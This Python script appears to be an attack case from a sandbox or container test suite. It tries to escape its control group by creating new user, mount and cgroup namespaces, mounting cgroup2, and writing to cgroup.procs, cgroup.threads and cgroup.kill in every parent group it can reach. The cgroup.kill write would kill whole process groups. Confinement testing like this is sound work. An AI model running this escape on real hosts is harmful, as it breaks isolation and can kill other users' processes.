# Attacks the control group: tries to leave it by all files that it can reach, from user and mount namespaces of its
# own.
import contextlib
import glob
import os

import stage


def climb():
    if not stage.unshare(stage.CLONE_NEWUSER | stage.CLONE_NEWNS | 0x02000000):  # CLONE_NEWCGROUP
        return
    os.makedirs(stage.path("groups"), exist_ok=True)
    stage.libc.mount(b"cgroup2", stage.path("groups").encode(), b"cgroup2", 0, None)
    places = ["/sys/fs/cgroup", "/sys/fs/cgroup/unified", stage.path("groups")]
    places += ["%s/.." % place for place in places] + glob.glob(stage.path("groups/*"))
    for place in places:
        with contextlib.suppress(OSError):
            os.mkdir(place + "/mine")
        for name in ("cgroup.procs", "mine/cgroup.procs", "cgroup.threads", "cgroup.kill"):
            with contextlib.suppress(OSError), open("%s/%s" % (place, name), "w") as file:
                file.write("1" if name == "cgroup.kill" else "0")


stage.serve_beside()
stage.wait_for_go()
stage.child(climb)
climb()
stage.begun()
stage.sleep()
